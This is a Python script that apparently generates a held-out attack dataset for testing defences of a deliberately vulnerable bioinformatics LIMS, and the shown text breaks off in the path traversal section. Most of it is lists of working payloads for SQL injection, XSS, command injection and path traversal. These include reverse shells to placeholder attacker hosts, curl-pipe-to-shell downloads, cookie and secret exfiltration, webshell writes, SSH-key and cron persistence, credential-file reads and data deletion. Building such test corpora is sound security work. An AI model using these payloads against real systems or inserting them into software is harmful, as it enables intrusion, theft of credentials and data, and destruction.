"""Attack held-out values for the biolab corpus (molecular-biology LIMS / bioinformatics core).

Each value is a working payload against a deliberately vulnerable lab application that
places the value where its class says: concatenated into SQL (sample search, plate sort,
freezer location update), into a shell line (fastqc/samtools/rsync/sbatch wrappers), into
a file path (FASTQ/BAM/report download, archive extraction), into a URL the server
fetches (reference import, data-sharing mirror, webhooks), into a server-side template,
expression evaluator, YAML/JSON/XML/pickle loader, spreadsheet export or log4j logger
(category "code"), into HTML without escaping (ELN notes, sample tables, plate-map SVG),
into MongoDB/CouchDB/Elasticsearch/Cypher queries, into log lines, HTTP headers or mail
headers, or into an LDAP filter / XPath query.

Class naming: "<context>-<technique>[+<encoding>]", where context names the lab field
(sample_name, fasta_header, primer, plate_well_title, freezer_loc, import_url, ...) or
"plain" for context-free payloads.

Every literal below was written by hand for this corpus from an understanding of how
each technique works; no payload list, dataset or vendor example was consulted.  A
small share of values comes from template functions combining hand-written lab prefixes
with hand-written payload tails, using a fixed random.Random(SEED).

Usage: python3 make_attacks.py   (writes attacks.jsonl next to this file)
"""

import json
import random
from pathlib import Path

SEED = 7102
PREFIX = "ha71"
OUT = Path(__file__).with_name("attacks.jsonl")

# target total per category (literals + templated)
TARGETS = {
    "sqli": 76, "xss": 74, "cmdi": 74, "traversal": 50, "ssrf": 54,
    "code": 80, "nosqli": 26, "crlf": 30, "ldap-xpath": 22,
}

# ---------------------------------------------------------------------------
# SQL injection
# ---------------------------------------------------------------------------
SQLI = [
    ("sample_name-union_select", "HEK293_KO_rep1' UNION SELECT username, password_hash FROM lims_users-- -"),
    ("sample_name-tautology", "WT_liver_M3' OR '1'='1"),
    ("barcode-tautology_limit", "ACGTACGT' OR 1=1 LIMIT 1 OFFSET 3-- "),
    ("fasta_header-error_extractvalue", ">sp|Q9Y6K9|NEMO_HUMAN' AND extractvalue(1,concat(0x7e,(SELECT @@version),0x7e))-- -"),
    ("fasta_header-union_pg_shadow", ">tr|A0A024R161|DNAJC25' UNION SELECT NULL,string_agg(usename||':'||passwd,','),NULL FROM pg_shadow--"),
    ("gene_search-time_pg_sleep", "TP53%' AND (SELECT 1 FROM pg_sleep(6)) IS NOT NULL AND '%'='"),
    ("gene_search-time_mysql_sleep", "BRCA1' AND SLEEP(5) AND 'x'='x"),
    ("gene_search-stacked_waitfor", "GAPDH'; WAITFOR DELAY '0:0:7';--"),
    ("primer-time_oracle_dbms_pipe", "5'||dbms_pipe.receive_message('q',9)||'-ACGTTGCA-3"),
    ("plate_id-numeric_union", "7 UNION ALL SELECT table_name,column_name,3 FROM information_schema.columns"),
    ("plate_sort-orderby_case", "well_row,(CASE WHEN (SELECT substr(password_hash,1,1) FROM lims_users WHERE id=1)='$' THEN well_col ELSE well_row END)"),
    ("freezer_loc-stacked_update", "Rack C'; UPDATE lims_users SET role='admin' WHERE email='postdoc@lab.example';--"),
    ("freezer_box-stacked_xp_cmdshell", "Box 14'; EXEC master..xp_cmdshell 'ping -n 3 203.0.113.9';--"),
    ("sample_id-oob_xp_dirtree", r"S-0042'; EXEC master..xp_dirtree '\\x7.attacker.example\s';--"),
    ("sample_name-oob_load_file", r"NA12878' UNION SELECT LOAD_FILE(CONCAT('\\\\',(SELECT password FROM users LIMIT 1),'.oob.attacker.example\\a')),2-- -"),
    ("eln_search-oob_utl_http", "PBS buffer' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) || '"),
    ("sample_name-union_sqlite_master", "ctrl' UNION SELECT name, sql FROM sqlite_master WHERE type='table'--"),
    ("treatment-heavy_query_sqlite", "DMSO' AND 1=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB(300000000/2))))--"),
    ("antibody-error_cast_pg", "RIP_IgG' AND 1=CAST((SELECT api_key FROM service_accounts LIMIT 1) AS int)--"),
    ("reagent_lot-error_convert_mssql", "23K1147' AND 1=CONVERT(int,(SELECT TOP 1 name FROM sys.tables))--"),
    ("qc_comment-error_updatexml", "low yield' AND updatexml(null,concat(0x0a,(SELECT group_concat(email) FROM lims_users)),null)-- -"),
    ("sample_name-blind_substring", "HG002' AND SUBSTRING((SELECT password_hash FROM lims_users WHERE username='admin'),1,1)='a'-- "),
    ("cell_line-blind_ascii", "K562' AND ASCII(SUBSTR((SELECT token FROM api_tokens WHERE ROWNUM=1),3,1))>77--"),
    ("strain-union+comment_space", "MG1655'/**/UNION/**/SELECT/**/login,pwd/**/FROM/**/staff#"),
    ("cell_line-union+case_mix", "Mcf7' uNiOn aLl SeLeCt NuLl,vErSiOn()-- -"),
    ("sample_name-tautology+urlenc", "S01%27%20OR%20%271%27%3D%271"),
    ("sample_name-union+urlenc2", "S01%2527%2520UNION%2520SELECT%2520user%252Cauthentication_string%2520FROM%2520mysql.user--%2520-"),
    ("eln_note-insert_subselect", "good yield', (SELECT password_hash FROM lims_users LIMIT 1))-- -"),
    ("freezer_loc-update_set_columns", "Box 3', owner_id=1, status='released"),
    ("plasmid-tautology_nospace", "pUC19'or(1)=(1)#"),
    ("strain-union+versioned_comment", "C57BL/6' /*!50000UNION*/ /*!50000SELECT*/ 1,group_concat(table_name) FROM information_schema.tables WHERE table_schema=database()-- -"),
    ("project-union_hex_literal", "HGSOC' UNION SELECT 1, password_hash FROM lims_users WHERE username=0x61646d696e-- -"),
    ("project-union_char_mssql", "NEURO' UNION SELECT name, password_hash FROM users WHERE name=CHAR(97)+CHAR(100)+CHAR(109)+CHAR(105)+CHAR(110)--"),
    ("plate_name-having_error", "plate 3' HAVING 1=1--"),
    ("plate_name-orderby_column_probe", "plate 3' ORDER BY 7-- -"),
    ("owner-comment_truncation", "lab_admin'-- "),
    ("sample_name-pg_copy_to_program", "S1'; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.50/x|sh';--"),
    ("report_name-into_outfile_webshell", "QC' UNION SELECT '<?php system($_GET[\"c\"]); ?>',2 INTO OUTFILE '/var/www/html/lims/q.php'-- -"),
    ("sample_name-sqlite_attach_webshell", "x'; ATTACH DATABASE '/var/www/lims/static/s.php' AS p; CREATE TABLE p.t (c text); INSERT INTO p.t VALUES ('<?php system($_GET[\"c\"]); ?>');--"),
    ("user_lookup-union_oracle_sys", "jlee' UNION SELECT name, password FROM sys.user$ WHERE ROWNUM<=5--"),
    ("run_id-stacked_dollar_quote", "240517; SELECT pg_read_file($$/etc/hostname$$)--"),
    ("gene_search-time_benchmark", "EGFR' AND BENCHMARK(40000000,SHA1('biolab'))-- "),
    ("gene_search-time_conditional", "KRAS' AND IF(ORD(MID(DATABASE(),1,1))>100,SLEEP(4),0)-- -"),
    ("sample_name-conditional_div_zero", "S-0193' AND 1=(SELECT CASE WHEN (current_user='postgres') THEN 1/0 ELSE 1 END)--"),
    ("sample_name-conditional_waitfor", "S-0194'; IF (SYSTEM_USER='sa') WAITFOR DELAY '0:0:5'--"),
    ("sample_pk-numeric_subquery", "42 AND (SELECT COUNT(*) FROM lims_users WHERE is_admin=1)>0"),
    ("gene_search-backslash_escape_bypass", r"TP53\' OR 1=1-- -"),
    ("sample_name-tautology+unicode_homoglyph", "S01ʼ OR ʼ1ʼ=ʼ1"),
    ("eln_note-multiline_union", "rep2 looked fine\n' UNION SELECT id, body FROM private_notes WHERE owner<>'me'-- -"),
    ("sequence_search-time_pg_sleep", "ATGCGTAC' AND 1=(SELECT 1 FROM pg_sleep(4))--"),
    ("eln_search-concat_subquery_pg", "TRIS buffer' || (SELECT string_agg(api_key, ',') FROM api_keys) || '"),
    ("primer_name-concat_oracle_banner", "GAPDH_F'||(SELECT banner FROM v$version WHERE ROWNUM=1)||'"),
    ("sample_sheet-insert_extra_row", "LIB_012','CTGATCGT'),('LIB_999',(SELECT group_concat(username,':',password_hash) FROM lims_users))-- -"),
    ("sample_name-stacked_grant_mssql", "S-0200'; EXEC sp_addsrvrolemember 'lims_ro','sysadmin';--"),
    ("sample_name-h2_create_alias", "S-0201'; CREATE ALIAS EXECVE AS $$ String e(String c) throws Exception { Runtime.getRuntime().exec(c); return null; } $$; CALL EXECVE('id');--"),
    ("plate_sort-orderby_sleep_subquery", "(SELECT 1 FROM (SELECT SLEEP(5))a)"),
    ("plate_ids-in_list_breakout", "1,2) OR (1=1"),
    ("project_filter-union_row_to_json", "neuro' UNION SELECT id, row_to_json(u)::text FROM lims_users u--"),
    ("qc_metric-numeric_stacked_delete", "0.31; DELETE FROM qc_runs WHERE run_id<>0"),
    ("sample_name-error_double_query", "S01' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT user()),0x3a,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)y)-- -"),
    ("barcode-union+urlenc", "ACGTACGT%27%20UNION%20SELECT%20null%2Cemail%20FROM%20lims_users--%20-"),
    ("sample_name-union+newline_as_space", "S02'\nUNION\nSELECT\nusername,\npassword_hash\nFROM\nlims_users#"),
    ("sample_name-tautology+tab_as_space", "S03'\tOR\t2>1\t--\t"),
    ("gene_search-like_subquery_boolean", "%' AND (SELECT COUNT(*) FROM lims_users WHERE password_hash LIKE 'a%')>0 AND '%'='"),
    ("plain-tautology", "' OR 1=1--"),
    ("plain-union_probe", "1' AND '1'='2' UNION SELECT 1,2,3-- -"),
    ("plain-stacked_drop", "'; DROP TABLE samples;--"),
    ("plain-comment_bypass", "admin'--"),
    ("plain-double_quote_tautology", "\" OR \"\"=\""),
    ("plain-numeric_tautology", "1 OR 1=1"),
    ("plain-time_sleep", "' AND SLEEP(10)#"),
]

SQLI_PREFIXES = ["HeLa_siCTRL_rep2", "NEURO_003", "PDX-0456-P2", "LIB_017", "T-0193",
                 "ChIP_H3K4me3_rep1", "BW25113", "KOLF2.1J_C11", "S-0311", "Run17_S05"]
SQLI_TAILS = [
    ("union_information_schema", "' UNION SELECT NULL,table_name FROM information_schema.tables-- -"),
    ("time_pg_sleep_subselect", "' AND 1=(SELECT 1 FROM pg_sleep(5))--"),
    ("tautology_string", "' OR 'a'='a"),
    ("stacked_pg_sleep", "'; SELECT pg_sleep(8)--"),
    ("time_derived_table_sleep", "' AND (SELECT 7 FROM (SELECT SLEEP(6))z)-- -"),
    ("union_current_user", "' UNION SELECT current_user, session_user-- -"),
]


def t_sqli(rng):
    tech, tail = rng.choice(SQLI_TAILS)
    return "sample_name-" + tech, rng.choice(SQLI_PREFIXES) + tail


# ---------------------------------------------------------------------------
# Cross-site scripting
# ---------------------------------------------------------------------------
XSS = [
    ("eln_note-script_cookie_exfil", "Gel looked fine <script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("sample_name-img_onerror", "HEK293<img src=x onerror=alert(document.domain)>"),
    ("fasta_header-svg_onload", ">sp|P68871|HBB_HUMAN <svg onload=alert(1)>"),
    ("plate_well_title-attr_breakout_dq", "A1\" onmouseover=\"alert(document.cookie)\" x=\""),
    ("plate_well_title-attr_breakout_sq", "B7' autofocus onfocus='fetch(\"//attacker.example/\"+localStorage.token)"),
    ("primer_name_js-string_breakout_sq", "GAPDH_F';new Image().src='https://attacker.example/?c='+document.cookie;//"),
    ("primer_name_js-string_breakout_dq", "ACTB_R\";alert(document.domain);//"),
    ("qc_json_script-script_close_breakout", "</script><script>alert(origin)</script>"),
    ("share_link-javascript_uri", "javascript:alert(document.domain)"),
    ("share_link-javascript_uri+html_entities", "jav&#x61;script:alert(document.cookie)"),
    ("share_link-javascript_uri+html_entities_decimal", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("share_link-javascript_uri_tab+html_entities", "java&#x09;script:fetch('//attacker.example/'+document.cookie)"),
    ("viewer_iframe_src-data_uri+base64", "data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+"),
    ("eln_markdown-link_javascript", "[protocol PDF](javascript:alert(document.cookie))"),
    ("eln_markdown-image_attr_breakout", "![gel image](x\" onerror=\"alert(1))"),
    ("eln_note-details_ontoggle", "Step 3 notes <details open ontoggle=alert(document.domain)><summary>more</summary></details>"),
    ("eln_note-iframe_srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.domain)&lt;/script&gt;\"></iframe>"),
    ("sample_name-input_autofocus", "S12<input autofocus onfocus=alert(1)>"),
    ("qc_comment-video_source_onerror", "Bioanalyzer trace <video><source onerror=\"alert(1)\"></video>"),
    ("eln_note-body_onload", "<body onload=alert('lims')>"),
    ("plate_map_svg-animate_onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("eln_note-mxss_math_style", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"),
    ("eln_note-mxss_noscript_title", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("qc_style-style_close_breakout", "</style><script>alert(1)</script>"),
    ("protocol_textarea-textarea_breakout", "Add 2 µL DNase</textarea><img src=x onerror=alert(document.cookie)>"),
    ("page_title-title_breakout", "Run 240517</title><script>alert(1)</script>"),
    ("eln_note-angularjs_csti", "Yield {{constructor.constructor('alert(document.cookie)')()}} mg/L"),
    ("eln_note-vue_csti", "{{_c.constructor('alert(1)')()}}"),
    ("eln_note-object_data_javascript", "<object data=\"javascript:alert(1)\"></object>"),
    ("share_request-form_action_javascript", "<form action=\"javascript:alert(document.domain)\"><button>Download FASTQ</button></form>"),
    ("eln_note-base_href_hijack", "<base href=\"https://attacker.example/\">"),
    ("eln_note-meta_refresh_phish", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/lims-login\">"),
    ("qc_comment-dangling_markup_img", "see attached <img src='https://attacker.example/log?html="),
    ("share_request-anchor_javascript_exfil", "<a href=\"javascript:fetch('//attacker.example/'+document.cookie)\">Raw data (FASTQ)</a>"),
    ("plate_map_upload-svg_script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><rect width=\"12\" height=\"8\"/><script>alert(document.domain)</script></svg>"),
    ("sample_name-img_slash_separators", "S13<img/src/onerror=alert(1)>"),
    ("sample_name-script+case_mix", "S14<ScRiPt>alert(1)</sCrIpT>"),
    ("search-script+urlenc", "%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"),
    ("search-svg_onload+urlenc2", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("sample_name-img_onerror+html_entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;(1)\">"),
    ("sample_name-img_onerror+unicode_escape", "<img src=x onerror=\"\\u0061lert(document.domain)\">"),
    ("qc_json_script-json_script_breakout", "\"}]</script><img src=x onerror=alert(1)>"),
    ("eln_js_template-template_literal_interp", "${alert(document.domain)}"),
    ("sample_name-fromcharcode_eval", "<svg onload=eval(String.fromCharCode(97,108,101,114,116,40,49,41))>"),
    ("sample_name-atob_eval+base64", "<img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>"),
    ("eln_note-animationstart", "<style>@keyframes k{}</style><div style=\"animation-name:k\" onanimationstart=\"alert(1)\"></div>"),
    ("eln_note-marquee_onstart", "<marquee onstart=alert(1)>freezer alarm!</marquee>"),
    ("plate_map-select_autofocus", "<select autofocus onfocus=alert(1)><option>A1</option></select>"),
    ("eln_note-audio_onerror", "<audio src=x onerror=alert(1)>"),
    ("sample_name-img_srcset_onerror", "<img srcset=x onerror=alert(1)>"),
    ("plate_map_svg-xlink_href_javascript", "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">A1</text></a></svg>"),
    ("eln_note-iframe_javascript_src", "<iframe src=\"javascript:alert(parent.document.cookie)\"></iframe>"),
    ("fasta_viewer-sequence_img_onerror", ">seq1 test\nATGC<img src=1 onerror=alert(1)>GGCC"),
    ("eln_comment-html_comment_breakout", "--><script>alert(1)</script><!--"),
    ("eln_note-image_beacon_exfil", "<script>new Image().src=\"//203.0.113.21/?\"+document.cookie</script>"),
    ("eln_note-api_fetch_exfil", "<script>fetch('/api/v1/samples?all=1').then(r=>r.text()).then(t=>fetch('https://attacker.example/x',{method:'POST',body:t}))</script>"),
    ("sample_name-img_newline_separators", "<img\nsrc=x\nonerror=alert(1)>"),
    ("plate_map_svg-svg_script+html_entities", "<svg><script>alert&#40;1&#41;</script></svg>"),
    ("share_link-javascript_leading_space", " javascript:alert(document.domain)"),
    ("qc_comment-keylogger_beacon", "<input onkeydown=\"navigator.sendBeacon('https://attacker.example/k',event.key)\" placeholder=\"comment\">"),
    ("sample_name-onpointerover_overlay", "<div onpointerover=alert(1) style=\"position:fixed;inset:0\">"),
    ("freezer_label-embed_svg_data", "<embed src=\"data:image/svg+xml,&lt;svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/&gt;\">"),
    ("eln_note-dynamic_import", "<script type=module>import('https://attacker.example/m.js')</script>"),
    ("eln_note-settimeout_string_split", "<img src=x onerror=setTimeout('al'+'ert(1)')>"),
    ("eln_note-location_hash_eval", "<svg onload=eval(location.hash.slice(1))>"),
    ("eln_markdown-inline_html_anchor", "See [SOP-023](https://wiki.lab.example/sop23) and <a href=javascript:alert(1)>SOP-024</a>"),
    ("plain-polyglot_breakout", "'\"--></style></script><svg onload=alert(1)>"),
    ("plain-script_alert", "<script>alert(1)</script>"),
    ("plain-img_onerror", "<img src=x onerror=alert(1)>"),
    ("plain-attr_svg_onload", "\"><svg/onload=alert(1)>"),
    ("plain-js_string_arith", "'-alert(1)-'"),
    ("plain-javascript_uri", "javascript:alert(1)//"),
    ("plain-iframe_onload", "<iframe onload=alert(1)>"),
]

XSS_PREFIXES = ["HeLa Kyoto P8 ", "Run 240611 ", "Freezer #2 Box 14 ", "S-0311 ",
                ">tr|Q8N158|GPC2 ", "Plate 4 H12 "]
XSS_VECTORS = [
    ("svg_onload_cookie", "<svg onload=fetch('//attacker.example/?'+document.cookie)>"),
    ("img_onerror_domain", "<img src=/nope onerror=alert(document.domain)>"),
    ("details_ontoggle", "<details ontoggle=alert(1) open>"),
    ("script_src_remote", "<script src=https://attacker.example/x.js></script>"),
    ("iframe_javascript", "<iframe src=javascript:alert(origin)>"),
]


def t_xss(rng):
    tech, vec = rng.choice(XSS_VECTORS)
    return "sample_name-" + tech, rng.choice(XSS_PREFIXES) + vec


# ---------------------------------------------------------------------------
# OS command injection
# ---------------------------------------------------------------------------
CMDI = [
    ("fastq_name-semicolon_curl_pipe", "S01_R1.fastq.gz; curl -s https://attacker.example/i.sh | sh"),
    ("bam_path-and_wget_bash", "NA12878.bam && wget -q -O- http://203.0.113.14/x | bash"),
    ("sample_name-or_nc_shell", "S02 || nc 203.0.113.14 4444 -e /bin/sh"),
    ("sample_name-subshell_oob", "LIB_$(curl -s attacker.example/$(whoami))"),
    ("sample_name-backtick_exfil", "HEK293_`cat /etc/passwd | nc 198.51.100.3 9001`"),
    ("fastq_name-newline_revshell", "S03_R1.fastq.gz\nbash -i >& /dev/tcp/203.0.113.14/4444 0>&1"),
    ("fastq_name-newline+urlenc", "S03_R2.fastq.gz%0Aid%0A"),
    ("region-ifs_space", "chr1;cat${IFS}/etc/shadow"),
    ("sample_name-brace_expansion", "S04;{wget,-qO-,http://203.0.113.14/p}|sh"),
    ("sample_name-glob_obfuscation", "S05;/???/?at /???/p?ss??"),
    ("region-single_quote_breakout", "chr1:1-1000'; rm -rf /data/seq/runs; echo '"),
    ("region-double_quote_breakout", "chr17:7661779-7687550\"; curl -d @/etc/passwd https://attacker.example/u; \""),
    ("sample_name-ansi_c_quoting+hex_escape", r"S06;$'\x63\x61\x74' $'\x2f\x65\x74\x63\x2f\x70\x61\x73\x73\x77\x64'"),
    ("sample_name-base64_pipe_sh+base64", "S07; echo Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmV4YW1wbGUvciB8IHNo | base64 -d | sh"),
    ("sample_name-background_sleep", "S08 & sleep 10 &"),
    ("sample_name-pipe_ping_timing", "S09|ping -c 12 127.0.0.1"),
    ("sample_name-nslookup_oob", "S10;nslookup $(whoami).oob.attacker.example"),
    ("sample_name-backtick_dig_oob", "S11`dig +short $(hostname).x.attacker.example`"),
    ("archive_args-tar_checkpoint_action", "--checkpoint=1 --checkpoint-action=exec='sh /tmp/upload/plate_map.csv'"),
    ("find_args-exec_injection", r"*.bam -exec sh -c 'curl attacker.example/f|sh' \;"),
    ("rsync_host-ssh_proxycommand", "-oProxyCommand=sh -c 'curl -s attacker.example/p|sh' nas01:/archive/"),
    ("download_url-curl_output_arg", "--output /var/www/lims/static/s.php https://attacker.example/s.txt"),
    ("pipeline_repo-git_upload_pack", "--upload-pack=touch /tmp/pwned https://git.lab.example/pipelines/rnaseq.git"),
    ("download_url-wget_post_file", "--post-file=/etc/passwd http://203.0.113.14/collect"),
    ("run_folder-windows_ampersand", r"Run17 & type C:\Windows\win.ini"),
    ("run_folder-powershell_iex", "Run18 | powershell -nop -w hidden -c \"iex (iwr http://203.0.113.14/a.ps1 -UseBasicParsing)\""),
    ("run_folder-comspec", r"Run19 & %COMSPEC% /c whoami > C:\inetpub\wwwroot\w.txt"),
    ("run_folder-caret_obfuscation", "Run20 & w^h^o^a^m^i"),
    ("fastq_input-process_substitution", "reads.fq <(curl -s https://attacker.example/q | sh)"),
    ("sample_name-authorized_keys_append", "S12; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKEFAKE attacker@attacker.example' >> ~/.ssh/authorized_keys"),
    ("sample_name-crontab_persistence", "S13;(crontab -l;echo '* * * * * curl -s attacker.example/b|sh')|crontab -"),
    ("sample_name-python_revshell", "S14; python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.14\",4444));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"sh\")'"),
    ("sample_name-perl_system", "S15; perl -e 'system(\"id\")'"),
    ("snakemake_config-threads_shell", "threads: \"8; curl -s attacker.example/s|sh\""),
    ("nextflow_param-subshell", "results/$(curl -s attacker.example/n|sh)"),
    ("slurm_job_name-dq_breakout", "align\"; scancel -u lims; echo \""),
    ("sample_name-env_secret_exfil", "S16;curl https://attacker.example/?k=$AWS_SECRET_ACCESS_KEY"),
    ("sample_name-file_read_subst", "S17;curl -d \"$(</etc/passwd)\" attacker.example"),
    ("sample_name-var_concat", "S18;a=c;b=at;$a$b /etc/passwd"),
    ("sample_name-empty_quotes+quote_split", "S19;c''a''t /e't'c/pa''sswd"),
    ("sample_name-backslash_obfuscation", r"S20;\c\a\t /etc/pass\wd"),
    ("sample_name-rev_subshell", "S21;$(echo dwssap/cte/ tac|rev)"),
    ("sample_name-printf_subshell+octal", r"S22;$(printf '\151\144')"),
    ("sample_name-positional_param_obfuscation", "S23;wh$@oami"),
    ("sample_name-path_substring_slash", "S24;cat${IFS}${PATH:0:1}etc${PATH:0:1}passwd"),
    ("sample_name-bash_c_brace_b64+base64", "S25|bash -c \"{echo,aWQ=}|{base64,-d}|bash\""),
    ("sample_name-awk_system", "S26;awk 'BEGIN{system(\"id\")}'"),
    ("export_file-perl_open_leading_pipe", "| curl -s https://attacker.example/p | sh"),
    ("export_file-perl_open_trailing_pipe", "curl -s attacker.example/t | sh |"),
    ("report_file-ruby_kernel_open_pipe", "|cat /etc/passwd"),
    ("sample_name-mkfifo_revshell", "S27;rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|sh -i 2>&1|nc 203.0.113.14 4444 >/tmp/f"),
    ("sample_name-socat_revshell", "S28 && socat exec:'bash -li',pty,stderr tcp:203.0.113.14:4444"),
    ("sample_name-openssl_pipe", "S29;openssl s_client -quiet -connect 198.51.100.7:443|sh"),
    ("sample_name-busybox_nc", "S30; busybox nc 203.0.113.14 4444 -e sh"),
    ("run_folder-certutil_download", r"Run21 & certutil -urlcache -split -f http://203.0.113.14/a.exe %TEMP%\a.exe & %TEMP%\a.exe"),
    ("sample_name-tab_separator", "S31;cat\t/etc/passwd"),
    ("sample_name-brace_cat", "S32;{cat,/etc/passwd}"),
    ("sample_name-bracket_glob", "S33;/bin/c[a]t /et[c]/passw[d]"),
    ("samtools_region-crlf+urlenc", "chr1%0d%0acurl%20attacker.example%2Fr%7Csh"),
    ("sample_name-semicolon+urlenc", "S34%3Bid%3Bwhoami"),
    ("sample_name-subshell+urlenc2", "S35%2524%2528id%2529"),
    ("primer3_seq-dollar_subshell", "ACGTTGCA$(id>/tmp/p3)GGCC"),
    ("qc_mail_subject-dq_breakout_mail", "QC done\"; mail -s x attacker@attacker.example < /etc/passwd; \""),
    ("vcf_path-semicolon_devtcp", "cohort.vcf.gz; bash -c 'sh -i >& /dev/tcp/203.0.113.14/53 0>&1'"),
    ("fasta_name-ifs_download_exec", "ref.fa;${IFS}curl${IFS}-o${IFS}/tmp/x${IFS}attacker.example/x;sh${IFS}/tmp/x"),
    ("plain-semicolon_id", "; id"),
    ("plain-pipe_whoami", "| whoami"),
    ("plain-and_cat_passwd", "&& cat /etc/passwd"),
    ("plain-subshell_id", "$(id)"),
    ("plain-backtick_uname", "`uname -a`"),
    ("plain-or_sleep", "|| sleep 15"),
    ("plain-newline_id", "\nid\n"),
]

CMDI_PREFIXES = ["S41_R1.fastq.gz", "NEURO_003.bam", "HG002.cram", "plate_P-0093.csv",
                 "chr7:55019017-55211628", "LIB_044", "run240611"]
CMDI_TAILS = [
    ("semicolon_wget_exec", ";wget -qO /tmp/.x http://198.51.100.23/x;chmod +x /tmp/.x;/tmp/.x"),
    ("and_id_exfil", " && curl -s \"https://attacker.example/?o=$(id|base64 -w0)\""),
    ("pipe_sh_download", " | curl -s http://203.0.113.88/s | sh"),
    ("subshell_sleep", "$(sleep 9)"),
    ("backtick_hostname_oob", "`ping -c1 $(hostname).attacker.example`"),
]


def t_cmdi(rng):
    tech, tail = rng.choice(CMDI_TAILS)
    return "file_name-" + tech, rng.choice(CMDI_PREFIXES) + tail


# ---------------------------------------------------------------------------
# Path traversal
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("download_path-dotdot", "../../../../etc/passwd"),
    ("run_folder-dotdot_nested", "runs/240517/../../../../../etc/shadow"),
    ("results_path-proc_environ", "results/../../../../proc/self/environ"),
    ("fastq_path-dotdot+urlenc_slash", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("fastq_path-dotdot+urlenc_full", "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fhosts"),
    ("report_path-dotdot+urlenc2", "%252e%252e%252f%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("report_path-dots+overlong_utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("report_path-slash+overlong_utf8", "..%c0%af..%c0%af..%c0%afetc%c0%afpasswd"),
    ("image_path-dots+iis_unicode", "%u002e%u002e/%u002e%u002e/%u002e%u002e/windows/win.ini"),
    ("export_path-backslash_windows", r"..\..\..\..\Windows\win.ini"),
    ("export_path-backslash+urlenc", "..%5c..%5c..%5cWindows%5cSystem32%5cdrivers%5cetc%5chosts"),
    ("fastq_path-nonrecursive_strip_bypass", "....//....//....//etc/passwd"),
    ("fastq_path-dot_slash_strip_bypass", "..././..././..././etc/passwd"),
    ("download_path-absolute_ssh_key", "/root/.ssh/id_rsa"),
    ("download_path-absolute_aws_creds", "/home/lims/.aws/credentials"),
    ("download_path-absolute_windows", r"C:\inetpub\wwwroot\web.config"),
    ("download_path-prefix_check_bypass", "/data/seq/../../etc/shadow"),
    ("bam_path-nullbyte_extension+urlenc", "../../../etc/passwd%00.bam"),
    ("fastq_path-nullbyte_extension+urlenc", "../../../../etc/shadow%00.fastq.gz"),
    ("upload_zip_entry-zip_slip_ssh", "../../../../home/lims/.ssh/authorized_keys"),
    ("upload_zip_entry-zip_slip_webroot", "results/../../../var/www/lims/static/shell.php"),
    ("static_url-tomcat_path_param", "/static/..;/..;/WEB-INF/web.xml"),
    ("app_url-tomcat_manager_path_param", "/lims/..;/manager/html"),
    ("config_path-proc_self_cwd", "/proc/self/cwd/config/settings.py"),
    ("snakemake_configfile-dotdot", "configfile: \"../../../../etc/lims/secrets.yaml\""),
    ("nextflow_params_file-dotdot", "-params-file ../../../../home/pi_admin/.config/lims/token.yaml"),
    ("template_name-include_dotdot", "../../../../app/instance/config.py"),
    ("export_path-mixed_separators", r"..\/..\/..\/..\/windows\/win.ini"),
    ("fastq_path-dotdot+case_mix", "%2E%2e%2F%2e%2E%2f%2E%2e%2Fetc%2Fpasswd"),
    ("fastq_path-dotdot+unicode_fullwidth", "．．／．．／．．／etc／passwd"),
    ("upload_path-prefix_dotdot_deep", "/var/lib/lims/uploads/../../../../etc/passwd"),
    ("log_view-dotdot_access_log", "../../../../../../var/log/nginx/access.log"),
    ("download_path-dotenv", "../../.env"),
    ("download_path-git_config", "../../../app/.git/config"),
    ("download_path-bash_history", "../../../../root/.bash_history"),
    ("download_path-munge_key", "/etc/munge/munge.key"),
    ("download_path-tilde_user_home", "~lims/.ssh/id_ed25519"),
    ("report_path-slash+urlenc2", "..%252f..%252f..%252f..%252fetc%252fgroup"),
    ("fastq_path-dots+urlenc", "%2e%2e/%2e%2e/%2e%2e/etc/group"),
    ("fastq_path-strip_bypass+urlenc", "....%2f....%2f....%2fetc%2fpasswd"),
    ("fastq_path-dot_segments", "/./././../../../etc/passwd"),
    ("fastq_path-half_encoded_dots+urlenc", ".%2e/.%2e/.%2e/.%2e/etc/passwd"),
    ("run_path-encoded_after_prefix+urlenc", "/data/seq/runs/%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("report_url-dotdot_after_file", "reports/QC_S01.html/../../../../../../etc/passwd"),
    ("export_path-backslash+overlong_utf8", "..%c1%9c..%c1%9c..%c1%9cwindows%c1%9cwin.ini"),
    ("plain-dotdot_passwd", "../../../etc/passwd"),
    ("plain-absolute_passwd", "/etc/passwd"),
